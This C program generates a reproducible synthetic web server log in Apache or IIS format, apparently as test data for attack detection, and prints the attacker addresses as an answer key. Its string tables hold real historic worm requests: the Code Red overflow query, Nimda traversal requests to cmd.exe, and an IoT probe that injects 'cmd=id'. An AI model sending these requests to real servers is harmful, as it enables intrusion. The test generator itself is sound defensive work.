// SPDX-License-Identifier: Apache-2.0
// weblog apache|iis BYTES OUT: a log of a web server with 100,000 visitors and 300 infected hosts, whose
// requests are one line in a thousand. Prints lines, attack lines, sources and attackers; then the
// addresses of the attackers, one a line. The same on every machine.
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "base/bytes.h"
#include "generate/dice.h"

enum { N_VISITORS = 100000, N_ATTACKERS = 300, LINES_AN_ATTACK = 1000, LINES_A_SECOND = 500 };
enum { LINE_BYTES = 1024, IP_BYTES = 16, EXIT_USAGE = 2 };
static const uint64_t seed = 20010719, start_s = UINT64_C(996969600); // 2001-08-05

struct request {
	const char *path, *query; // "" when there is none
};

#define FILL_10(c) c c c c c c c c c c
#define FILL_224(c) FILL_10(FILL_10(c)) FILL_10(FILL_10(c)) FILL_10(c) FILL_10(c) c c c c
#define TAIL \
	"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090" \
	"%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"
#define CMD "/winnt/system32/cmd.exe"

/* Code Red I and II; Nimda's sixteen, as a network saw them in September 2001; bots of later years. */
static const struct request code_red[] = { { "/default.ida", FILL_224("N") TAIL },
	{ "/default.ida", FILL_224("X") TAIL } };
static const struct request nimda[] = { { "/scripts/root.exe", "/c+dir" },
	{ "/MSADC/root.exe", "/c+dir" }, { "/c" CMD, "/c+dir" }, { "/d" CMD, "/c+dir" },
	{ "/scripts/..%255c.." CMD, "/c+dir" },
	{ "/_vti_bin/..%255c../..%255c../..%255c.." CMD, "/c+dir" },
	{ "/_mem_bin/..%255c../..%255c../..%255c.." CMD, "/c+dir" },
	{ "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c.." CMD, "/c+dir" },
	{ "/scripts/..%c1%1c.." CMD, "/c+dir" }, { "/scripts/..%c0%2f.." CMD, "/c+dir" },
	{ "/scripts/..%c0%af.." CMD, "/c+dir" }, { "/scripts/..%c1%9c.." CMD, "/c+dir" },
	{ "/scripts/..%%35%63.." CMD, "/c+dir" }, { "/scripts/..%%35c.." CMD, "/c+dir" },
	{ "/scripts/..%25%35%63.." CMD, "/c+dir" }, { "/scripts/..%252f.." CMD, "/c+dir" } };
static const struct request bots[] = { { "/HNAP1/", "" }, { "/GponForm/diag_Form", "images/" },
	{ "/boaform/admin/formLogin", "" },
	{ "/setup.cgi", "next_file=netgear.cfg&todo=syscmd&cmd=id" } };

static const struct {
	const struct request *request;
	size_t n;
} worms[] = { { code_red, 1 }, { code_red + 1, 1 }, { nimda, countof(nimda) },
	{ bots, countof(bots) } };

static const char *const folders[] = { "", "/images", "/products/2001", "/support/kb", "/news",
	"/downloads/drivers", "/cgi-bin/shop", "/intranet/hr/forms", "/~smith/photos" };
static const char *const pages[] = { "index.html", "default.htm", "logo.gif", "header_left.gif",
	"style.css", "menu.js", "robots.txt", "q301625.asp", "search.asp", "whitepaper.pdf",
	"driver_4.21.zip", "favicon.ico", "contact.html", "main.php", "calendar.aspx", "feed.xml" };
static const char *const agents[] = { "Mozilla/4.0 (compatible; MSIE 5.5; Windows NT 5.0)",
	"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)",
	"Mozilla/4.77 [en] (X11; U; Linux 2.4.3 i686)",
	"Googlebot/2.1 (+http://www.google.com/bot.html)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
	"Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", "Wget/1.21.3" };
static const unsigned statuses[] = { 200, 200, 200, 200, 200, 200, 304, 304, 302, 404 };

/** A line before it is written down. */
struct line {
	time_t time_s;
	char client[IP_BYTES], path[128], query[512];
	const char *referer, *agent;
	unsigned status, bytes;
};

static void name_attacker(char ip[static IP_BYTES], uint32_t nth)
{
	snprintf(ip, IP_BYTES, "198.18.%u.%u", 1 + nth / 200, 1 + nth % 200);
}

static void draw_attack(struct dice *d, struct line *l)
{
	uint32_t nth = dice_below(d, N_ATTACKERS);
	size_t worm = nth % countof(worms);
	const struct request *r = &worms[worm].request[dice_below(d, (uint32_t)worms[worm].n)];
	name_attacker(l->client, nth);
	snprintf(l->path, sizeof l->path, "%s", r->path);
	snprintf(l->query, sizeof l->query, "%s", r->query);
	l->referer = l->agent = "-";
	l->status = 404;
	l->bytes = 283;
}

/* Few visitors come often, most seldom. */
static void draw_visit(struct dice *d, struct line *l, bool has_come[static N_VISITORS])
{
	uint32_t nth = dice_below(d, dice_below(d, N_VISITORS) + 1);
	has_come[nth] = true;
	snprintf(l->client, sizeof l->client, "10.%u.%u.%u", nth % 251, nth / 251 % 241,
		1 + nth / 251 / 241);
	snprintf(l->path, sizeof l->path, "%s/%s", folders[dice_below(d, countof(folders))],
		pages[dice_below(d, countof(pages))]);
	l->query[0] = '\0';
	if (dice_chance(d, 15))
		snprintf(l->query, sizeof l->query, "id=%" PRIu32 "&lang=en&sort=date",
			dice_below(d, 1000000));
	l->referer = dice_chance(d, 60) ? "http://www.example.com/products/2001/index.html" : "-";
	l->agent = agents[nth % countof(agents)];
	l->status = statuses[dice_below(d, countof(statuses))];
	l->bytes = dice_between(d, 200, 60000);
}

typedef int write_fn(char *room, const struct line *l);

static int write_apache(char *room, const struct line *l)
{
	char when[32];
	struct tm tm;
	strftime(when, sizeof when, "%d/%b/%Y:%H:%M:%S", gmtime_r(&l->time_s, &tm));
	return snprintf(room, LINE_BYTES,
		"%s - - [%s +0000] \"GET %s%s%s HTTP/1.%c\" %u %u \"%s\" \"%s\"\n", l->client, when,
		l->path, *l->query ? "?" : "", l->query, *l->agent == '-' ? '0' : '1', l->status,
		l->bytes, l->referer, l->agent);
}

/* Blanks in the agent are "+". */
static int write_iis(char *room, const struct line *l)
{
	char when[32], agent[LINE_BYTES / 4];
	struct tm tm;
	strftime(when, sizeof when, "%Y-%m-%d %H:%M:%S", gmtime_r(&l->time_s, &tm));
	snprintf(agent, sizeof agent, "%s", l->agent);
	for (char *p = agent; (p = strchr(p, ' '));)
		*p = '+';
	return snprintf(room, LINE_BYTES, "%s 192.0.2.80 GET %s %s 80 - %s %s %u 0 0 %u\r\n", when,
		l->path, *l->query ? l->query : "-", l->client, agent, l->status, l->bytes % 997);
}

static const struct {
	const char *name, *head;
	write_fn *write;
} formats[] = {
	{ "apache", "", write_apache },
	{ "iis",
		"#Software: Microsoft Internet Information Services 7.5\r\n#Version: 1.0\r\n"
		"#Date: 2001-08-05 00:00:00\r\n"
		"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username "
		"c-ip "
		"cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\r\n",
		write_iis },
};

/** What was written. */
struct tally {
	uint64_t n_lines, n_attacks;
	bool has_come[N_VISITORS];
};

static bool write_log(
	FILE *out, const char *head, write_fn *write, uint64_t n_bytes, struct tally *t)
{
	struct dice d = { .state = seed };
	uint64_t n_written = strlen(head);
	fputs(head, out);
	while (n_written < n_bytes) {
		char room[LINE_BYTES];
		struct line l = { .time_s = (time_t)(start_s + t->n_lines / LINES_A_SECOND) };
		bool is_attack = dice_below(&d, LINES_AN_ATTACK) == 0;
		if (is_attack)
			draw_attack(&d, &l);
		else
			draw_visit(&d, &l, t->has_come);
		size_t len = (size_t)write(room, &l);
		if (fwrite(room, 1, len, out) != len)
			return false;
		n_written += len;
		t->n_attacks += is_attack;
		t->n_lines++;
	}
	return true;
}

static void print(const struct tally *t)
{
	char ip[IP_BYTES];
	size_t n_sources = N_ATTACKERS;
	for (size_t i = 0; i < N_VISITORS; i++)
		n_sources += t->has_come[i];
	printf("%" PRIu64 " %" PRIu64 " %zu %d\n", t->n_lines, t->n_attacks, n_sources,
		N_ATTACKERS);
	for (uint32_t i = 0; i < N_ATTACKERS; i++) {
		name_attacker(ip, i);
		puts(ip);
	}
}

int main(int argc, char **argv)
{
	size_t i = 0;
	while (argc == 4 && i < countof(formats) && strcmp(argv[1], formats[i].name))
		i++;
	FILE *out = argc == 4 && i < countof(formats) ? fopen(argv[3], "we") : NULL;
	if (!out) {
		fputs("usage: weblog apache|iis BYTES OUT\n", stderr);
		return EXIT_USAGE;
	}
	static struct tally tally;
	bool is_fine = write_log(
		out, formats[i].head, formats[i].write, strtoull(argv[2], NULL, 10), &tally);
	if (fclose(out) || !is_fine) {
		perror("weblog");
		return EXIT_USAGE;
	}
	print(&tally);
	return 0;
}
